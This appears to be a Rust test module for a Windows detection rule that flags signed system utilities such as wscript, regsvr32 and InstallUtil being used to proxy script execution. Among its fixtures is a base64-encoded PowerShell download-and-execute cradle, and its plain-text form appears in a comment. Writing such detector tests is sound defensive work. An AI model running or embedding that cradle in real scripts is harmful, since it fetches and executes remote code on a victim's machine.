//! One test for each sentence of the crate's documentation.

mod alone;
mod chains;
mod order;

use sandtrap_sdk::{
    Finding, Severity, class, field,
    testing::{self, TestEvent, World},
};
use serde_json::{Value, json};

use crate::SignedScriptProxy;

const WSCRIPT: &str = "C:\\Windows\\System32\\wscript.exe";
const CSCRIPT: &str = "C:\\Windows\\System32\\cscript.exe";
const CMD: &str = "C:\\Windows\\System32\\cmd.exe";
const EXPLORER: &str = "C:\\Windows\\explorer.exe";
const REGSVR32: &str = "C:\\Windows\\System32\\regsvr32.exe";
const INSTALLUTIL: &str = "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\InstallUtil.exe";
const POWERSHELL: &str = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
/// `IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')`
const ENCODED: &str = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMgAwADMALgAwAC4AMQAxADMALgA5AC8AYQAnACkA";

/// The launch of the utility, which is process 7.
fn launch(image: &str, command_line: &str) -> TestEvent {
    testing::launch(7)
        .image(image)
        .command_line(command_line)
        .child_of(3)
}

/// The launch of its child, which is process 8.
fn child(image: &str, command_line: &str) -> TestEvent {
    testing::launch(8)
        .image(image)
        .command_line(command_line)
        .child_of(7)
}

fn connection(ip: &str, port: u64) -> TestEvent {
    testing::event(class::NETWORK_OPEN)
        .by(7)
        .set(field::DST_ENDPOINT_IP, ip)
        .set(field::DST_ENDPOINT_PORT, port)
        .set(field::CONNECTION_INFO_OUTBOUND, 1)
}

fn wrote(path: &str) -> TestEvent {
    testing::event(class::FILE_CREATE)
        .by(7)
        .set(field::FILE_PATH, path)
}

fn loaded(process: u64, module: &str, is_signed: u64) -> TestEvent {
    testing::event(class::MODULE_LOAD)
        .by(process)
        .set(field::MODULE_FILE_PATH, module)
        .set(field::MODULE_FILE_SIGNATURE_SIGNED, is_signed)
}

fn world() -> World {
    World::new().process(testing::process(3).image(EXPLORER))
}

fn run(events: impl IntoIterator<Item = TestEvent>) -> Vec<Finding> {
    run_at(json!({}), events)
}

fn run_at(site: Value, events: impl IntoIterator<Item = TestEvent>) -> Vec<Finding> {
    testing::run::<SignedScriptProxy>(world(), json!({}), site, events)
}

/// The severity of the last finding about process 7.
fn severity(events: impl IntoIterator<Item = TestEvent>) -> Option<Severity> {
    let found = run(events);
    assert!(
        found.iter().all(|finding| finding.process == Some(7)),
        "{found:#?}"
    );
    found.last().map(|finding| finding.severity)
}

#[test]
fn the_description_is_acceptable() {
    testing::check::<SignedScriptProxy>();
}
